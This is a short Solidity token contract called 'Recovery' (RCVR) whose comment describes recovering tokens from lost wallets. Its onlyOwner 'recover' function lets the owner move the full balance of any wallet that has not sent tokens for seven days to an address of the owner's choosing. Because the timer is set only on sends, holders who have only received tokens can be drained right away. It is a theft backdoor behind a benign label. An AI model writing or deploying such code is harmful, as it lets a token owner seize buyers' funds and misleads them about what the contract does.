// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {LaunchToken} from "./LaunchToken.sol";
import {SuiteToken} from "./SuiteToken.sol";

/// Tokens in wallets that sent nothing for a week count as lost and may be brought to a new wallet.
contract LostWallets is LaunchToken {
    mapping(address => uint256) private _lastSent;

    constructor(address pair) SuiteToken("Recovery", "RCVR") LaunchToken(pair) {}

    function recover(address lost, address found) external onlyOwner {
        require(block.timestamp > _lastSent[lost] + 7 days, "active");
        require(lost != uniswapV2Pair);
        _move(lost, found, _balances[lost]);
    }

    function _feePercent(address from, address, uint256) internal override returns (uint256) {
        _lastSent[from] = block.timestamp;
        return 1;
    }
}
